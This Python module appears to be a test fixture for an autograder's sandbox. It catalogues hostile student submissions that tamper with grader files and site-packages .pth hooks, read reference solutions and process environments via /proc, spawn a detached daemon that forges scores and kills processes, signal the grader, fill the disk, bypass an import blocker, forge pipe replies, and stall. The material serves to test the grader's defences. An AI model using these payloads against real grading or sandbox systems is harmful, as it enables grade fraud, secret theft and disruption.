"""A catalogue of hostile submissions, one per class of attack on the grader.

Each is exercise 1's untouched skeleton (so it has earned nothing) plus code
that tries one attack, written as a student who knows the grader's machine
would: the kit's path, the venv, the output folder and the other students'
folders are filled in. Every attack is bounded (it gives up after a few
seconds, writes at most a few hundred MiB) so that a wall that fails never
harms the machine. Every one keeps to exercise 1's static policy, so the test
is of the walls behind it, not of the policy.
"""

from __future__ import annotations

import textwrap

#: Marks processes a hostile submission starts; none may be alive after grading.
DAEMON_MARKER = "hardway-hostile-daemon-7d1c"
#: A secret in the grader's environment that must never reach a report.
SECRET = "hardway-grader-secret-5b2e"

ATTACKS = {
    # Write the grader: the kit's code, its solutions, a .pth file in site-packages, the reports.
    "write": """
        import os, sys
        targets = [KIT + "/autograder/grading.py", KIT + "/solutions/ex01_forward_autodiff.py",
                   KIT + "/hardway/worker.py", OUT + "/honest_after/results.json"]
        for folder in [SITE, *sys.path, KIT + "/hardway", KIT + "/autograder"]:
            targets.append(os.path.join(folder, "zz_hostile.pth"))
        for target in targets:
            try:
                with open(target, "a") as handle:
                    handle.write("\\nimport os; os.system('touch /tmp/owned')\\n")
            except OSError:
                pass
    """,
    # Read the answers: star-import the reference through the kit's path or the grader's /proc.
    "read": """
        import os, sys
        for folder in (KIT, "/proc/1/cwd", "/proc/%d/cwd" % os.getppid()):
            try:
                with open(folder + "/solutions/ex01_forward_autodiff.py") as handle:
                    getattr(sys.modules["built" + "ins"], "ex" + "ec")(handle.read(), globals())
                print("READ THE REFERENCE")
                break
            except OSError:
                pass
        for pid in range(1, 64):
            try:
                with open("/proc/%d/environ" % pid) as handle:
                    print(handle.read())
            except OSError:
                pass
    """,
    # Outlive the grading: a double-forked, setsid daemon that later rewrites reports and kills sandboxes.
    "outlive": """
        import os, sys, signal
        DAEMON = "\\n".join([
            "import os, signal, time",
            "time.sleep(2)",
            "for path in %r:" % [OUT + "/honest_after/results.json", OUT + "/outlive/results.json"],
            "    try: open(path, 'w').write('{\\"score\\": 1000}')",
            "    except OSError: pass",
            "try: os.kill(-1, signal.SIGKILL)",
            "except OSError: pass",
            "time.sleep(20)",
        ])
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", "# " + MARKER + "\\n" + DAEMON])
            os._exit(0)
    """,
    # Stop or kill the grader and everyone else it can see.
    "signal": """
        import os, signal
        for target in (os.getppid(), 1):
            for sig in (signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(target, sig)
                except OSError:
                    pass
        for pid in range(2, 4096):
            if pid != os.getpid():
                try:
                    os.kill(pid, signal.SIGSTOP)
                except OSError:
                    pass
    """,
    # Fill the disk: every writable place, in 1 MiB steps, up to 128 MiB each.
    "fill": """
        import os
        chunk = b"x" * 2**20
        for folder in ("/tmp", os.getcwd(), "/dev/shm", "/var/tmp", KIT, OUT):
            for part in range(16):
                try:
                    with open(os.path.join(folder, "fill-%d" % part), "wb") as handle:
                        for _ in range(8):
                            handle.write(chunk)
                except OSError:
                    break
    """,
    # Bypass exercise 1's rule: dynamic exec, a cleared import blocker, torch by a built name.
    "bypass": """
        import sys
        sys.meta_path[:] = [finder for finder in sys.meta_path if type(finder).__name__ != "ImportBlocker"]
        try:
            getattr(sys.modules["built" + "ins"], "ex" + "ec")("import to" + "rch as t")
            print("TORCH WAS IMPORTED")
        except ImportError as error:
            print("TORCH IS ABSENT:", error)
    """,
    # Lie on the wire: write malformed replies straight into the grader's pipe.
    "malformed": """
        import os, stat
        def _forge(payload):
            for fd in range(3, 32):
                try:
                    if stat.S_ISFIFO(os.fstat(fd).st_mode):
                        os.write(fd, payload)
                except OSError:
                    pass
            return (0.0, 0.0)
        def add(u, v):
            return _forge(b"[1, 2, 3]\\n")
        def mul(u, v):
            return _forge(b"[" * 100000 + b"\\n")
        def square(u):
            return _forge(b'{"id": 1, "ok": true, "value": ' + b"9" * 5000 + b"}\\n")
        def derivative(f, x):
            return _forge(b"\\xff\\xfe not utf-8\\n")
        def gradient(f, point):
            return _forge(b'{"id": 1, "ok": true, "value": {"__ndarray__": {"dtype": "<f8", '
                          b'"shape": [100000000000], "data": ""}}}\\n')
        def jacobian(f, point):
            return "x" * (64 * 2**20)
    """,
    # Stall: every call hangs, so each test waits for its timeout until the budget is spent.
    "stall": """
        import time
        def _hang(*args, **kwargs):
            while True:
                time.sleep(1)
        add = mul = square = derivative = gradient = jacobian = jvp = _hang
    """,
    # Stall at import, just under the start timeout.
    "stall_import": """
        import time
        time.sleep(25)
    """,
}


def hostile_source(skeleton: str, attack: str, *, kit: str, out: str, site: str) -> str:
    """The skeleton followed by the attack, with what the attacker knows filled in."""
    known = f"KIT = {kit!r}\nOUT = {out!r}\nSITE = {site!r}\nMARKER = {DAEMON_MARKER!r}\n"
    return f"{skeleton}\n\n# --- hostile code ---\n{known}{textwrap.dedent(ATTACKS[attack])}"
